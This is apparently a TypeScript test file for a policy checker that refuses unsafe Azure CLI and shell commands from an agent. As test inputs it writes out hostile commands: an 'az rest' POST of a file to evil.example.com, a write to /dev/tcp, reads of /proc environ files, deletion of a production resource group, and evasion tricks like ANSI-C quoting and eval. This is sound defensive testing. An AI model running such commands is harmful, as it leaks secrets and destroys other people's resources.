import { checkCommand, checkScript, loadBashParser } from '../../../core/policy';
import { corpusContext as ctx, RUN_ID, SUBSCRIPTION } from './corpus-context';

// One test per root cause issue 13 lists for the old text filter, each asserting the rule that now refuses it.
const FOREIGN = `/subscriptions/${SUBSCRIPTION}/resourceGroups/production-rg`;
const rule = (command: string): string => {
  const v = checkCommand(command, ctx);
  return v.allowed ? `allowed:${v.rule}` : v.rule;
};

beforeAll(() => loadBashParser());

describe('issue 13 root causes', () => {
  it('judges a repeated option by every value and by the last one, as az does', () => {
    expect(rule('az group delete -g "$RG" --resource-group production-rg --yes')).toBe('delete.run-owned');
    expect(rule('az group delete -g production-rg --resource-group "$RG" --yes')).toBe('delete.run-owned');
    expect(rule(`az rest --method get --method delete --url "${FOREIGN}?api-version=2021-04-01"`)).toBe(
      'az.rest-target',
    );
    expect(
      rule(
        'az vm list --subscription "$AZURE_SUBSCRIPTION_ID" --subscription 99999999-9999-4999-8999-999999999999',
      ),
    ).toBe('az.subscription-pinned');
  });

  it('resolves unambiguous prefixes, = and attached values, and aliases', () => {
    expect(rule('az vm delete --resource-gr production-rg -n v --yes')).toBe('delete.run-owned');
    expect(rule('az vm delete -gproduction-rg -n v --yes')).toBe('delete.run-owned');
    expect(rule('az vm delete --res=production-rg -n v --yes')).toBe('delete.run-owned');
    expect(rule(`az rest -m delete -u ${FOREIGN}`)).toBe('az.rest-target');
    expect(rule('az vm list --subscr 99999999-9999-4999-8999-999999999999')).toBe('az.subscription-pinned');
  });

  it('counts a resource group as the run’s only when it is one of the scenario’s own groups', () => {
    // A sibling scenario's group of the same run carries the short id too: RBAC keeps the principal out of it, and
    // so does the policy (defence in depth).
    const sibling = 'haymaker-networking02-c0ffee42';
    expect(rule(`az group delete -n ${sibling} --yes`)).toBe('delete.run-owned');
    expect(rule(`az vm delete -g ${sibling} -n v --yes`)).toBe('delete.run-owned');
    expect(rule(`az resource delete --ids /subscriptions/${SUBSCRIPTION}/resourceGroups/${sibling}/x`)).toBe(
      'delete.run-owned',
    );
    expect(rule(`az group delete -n HAYMAKER-COMPUTE00-C0FFEE42 --yes`)).toBe('allowed:ok');
    expect(rule('az group delete -n "$RG" --yes')).toBe('allowed:ok');
    // Without the scenario's groups (e.g. `haymaker policy check` on a bare script) the short id rule applies.
    const { resourceGroups: _groups, ...bare } = ctx;
    const verdict = checkCommand(`az group delete -n ${sibling} --yes`, bare);
    expect(verdict.allowed).toBe(true);
  });

  it('counts a name as the run’s only when the value az uses carries the short id', () => {
    expect(rule('az group delete -n "${X_c0ffee42:-production-rg}" --yes')).toBe('delete.run-owned');
    expect(rule('az group delete -n @/tmp/c0ffee42.txt --yes')).toBe('delete.run-owned');
    expect(
      rule(
        `az rest --method delete --url "https://management.azure.com${FOREIGN}?api-version=2021-04-01#c0ffee42"`,
      ),
    ).toBe('az.rest-target');
    expect(rule('az group delete -n "$RG" --yes')).toBe('allowed:ok');
  });

  it('judges az rest by its target: a second --method, a foreign host, a token for another audience', () => {
    expect(rule('az rest --method post --url https://evil.example.com/c --body @/tmp/x.json')).toBe(
      'az.rest-target',
    );
    expect(rule('az rest --url https://evil.example.com --resource https://management.azure.com')).toBe(
      'az.rest-target',
    );
    expect(
      rule(`az rest --method post --url ${FOREIGN}/providers/Microsoft.Storage/storageAccounts/s/listKeys`),
    ).toBe('az.rest-target');
    expect(
      rule(
        `az rest --url "https://management.azure.com/subscriptions/${SUBSCRIPTION}/resourceGroups?api-version=2021-04-01"`,
      ),
    ).toBe('allowed:ok');
  });

  it('judges invoke-action and --ids by their targets', () => {
    expect(
      rule(
        `az resource invoke-action --action listKeys --ids ${FOREIGN}/providers/Microsoft.Storage/storageAccounts/s`,
      ),
    ).toBe('write.run-owned');
    expect(rule(`az vm delete --ids ${FOREIGN}/providers/Microsoft.Compute/virtualMachines/v --yes`)).toBe(
      'delete.run-owned',
    );
  });

  it('judges programs other than az: a pipe into bash, node -e, /dev/tcp, the agent environment', () => {
    expect(rule('echo "az group delete -n production-rg --yes" | bash')).toBe('shell.program');
    expect(rule('node -e "process.exit(0)"')).toBe('shell.program');
    expect(rule('echo x > /dev/tcp/203.0.113.9/443')).toBe('shell.file-access');
    expect(rule('cat /proc/1/environ')).toBe('shell.file-access');
    expect(checkCommand('cat /proc/$PPID/environ', ctx).allowed).toBe(false);
  });

  it('sees through wrappers, functions, ANSI-C quoting and commands named by variables', () => {
    expect(rule('time -p az group delete -n production-rg --yes')).toBe('delete.run-owned');
    expect(rule('timeout -s KILL 600 az group delete -n production-rg --yes')).toBe('delete.run-owned');
    expect(rule('env -u X az group list')).toBe('shell.program');
    expect(rule('echo production-rg | xargs -s 100 az group delete --yes -n')).toBe('shell.program');
    expect(rule('setsid az group list')).toBe('shell.program');
    expect(rule('find . -exec az group list \\;')).toBe('shell.program');
    expect(rule('f() { az group delete -n "$1" --yes; }; f production-rg')).toBe('shell.construct');
    expect(rule("$'\\x61\\x7a' group delete -n production-rg --yes")).toBe('delete.run-owned');
    expect(rule('az $CMD -n production-rg')).toBe('shell.unresolved');
    expect(rule("printf -v CMD '%s' az")).toBe('shell.variable');
    expect(rule('eval "az group list"')).toBe('shell.program');
    expect(rule('source /tmp/x.sh')).toBe('shell.program');
    expect(rule("alias x='az group list'")).toBe('shell.program');
  });

  it('keeps checking after a here-string, and judges what bash expands in a here-document', () => {
    const afterHereString = checkScript('az group list <<< x\naz group delete -n production-rg --yes', ctx);
    expect(afterHereString.verdicts.map((v) => [v.allowed, v.rule])).toEqual([
      [true, 'ok'],
      [false, 'delete.run-owned'],
    ]);
    expect(rule('cat <<EOF\n$(az group delete -n production-rg --yes)\nEOF')).toBe('delete.run-owned');
    expect(rule("cat <<'EOF'\n$(az group delete -n production-rg --yes)\nEOF")).toBe('allowed:ok');
    expect(rule('cat <<EOF | bash\naz group list\nEOF')).toBe('shell.program');
  });

  it('does not count ids printed by an earlier step as the run’s', () => {
    expect(rule('az ad app delete --id 5b1e2c3d-aaaa-4bbb-8ccc-0123456789ab')).toBe('entra.run-objects');
    expect(rule('ID=$(az resource list --query "[0].id" -o tsv); az resource delete --ids "$ID"')).toBe(
      'delete.run-owned',
    );
    // The same step's lookup of a run-owned app does count.
    expect(
      rule(
        'APP_ID=$(az ad app list --display-name "$APP_NAME" --query "[0].appId" -o tsv); az ad app delete --id "$APP_ID"',
      ),
    ).toBe('allowed:ok');
  });

  it('refuses tag writes on resources the run does not own', () => {
    expect(
      rule(
        `az tag update --resource-id ${FOREIGN} --operation merge --tags AzureHayMaker-managed=true ExecutionId=${RUN_ID}`,
      ),
    ).toBe('write.run-owned');
    expect(rule(`az group update -n production-rg --set tags.ExecutionId=${RUN_ID}`)).toBe('write.run-owned');
    expect(
      rule('az group create -n haymaker-compute00-c0ffee42 --tags $HAYMAKER_TAGS ExecutionId=another-run'),
    ).toBe('tags.haymaker-keys');
  });
});

describe('tag injection', () => {
  it('appends the tags to the create command itself, before a pipe', () => {
    const verdict = checkCommand('az group create -n "$RG" -l eastus | jq -r .id', ctx);
    expect(verdict.rewritten).toMatch(
      /^az group create -n "\$RG" -l eastus --tags AzureHayMaker-managed=true .*ExpiresAt=2026-11-24T00:00:00.000Z \| jq -r \.id$/,
    );
  });

  it('adds the HayMaker tags to the last --tags (the one az keeps)', () => {
    const verdict = checkCommand(
      'az keyvault create -n "kv-$HAYMAKER_RUN_SHORT" -g "$RG" --tags a=1 --tags team=platform',
      ctx,
    );
    expect(verdict.rewritten).toMatch(/--tags a=1 --tags AzureHayMaker-managed=true .* team=platform$/);
  });

  it('injects $HAYMAKER_TAGS when the context carries no literal tags', () => {
    expect(
      checkCommand('az group create -n haymaker-compute00-c0ffee42 -l eastus', { ...ctx, tags: {} })
        .rewritten,
    ).toBe('az group create -n haymaker-compute00-c0ffee42 -l eastus --tags $HAYMAKER_TAGS');
  });

  it('rewrites a create inside a command substitution in place, once even inside a loop', () => {
    const verdict = checkCommand('ID=$(az group create -n "$RG" -l eastus --query id -o tsv)', ctx);
    expect(verdict.rewritten).toMatch(
      /^ID=\$\(az group create -n "\$RG" -l eastus --query id -o tsv --tags AzureHayMaker-managed=true [^)]*\)$/,
    );
    const loop = checkScript(
      'for Z in a b; do az storage account create -n "hm$Z$HAYMAKER_RUN_SHORT" -g "$RG"; done',
      ctx,
    );
    expect(loop.rewritten?.match(/--tags/g)).toHaveLength(1);
  });
});
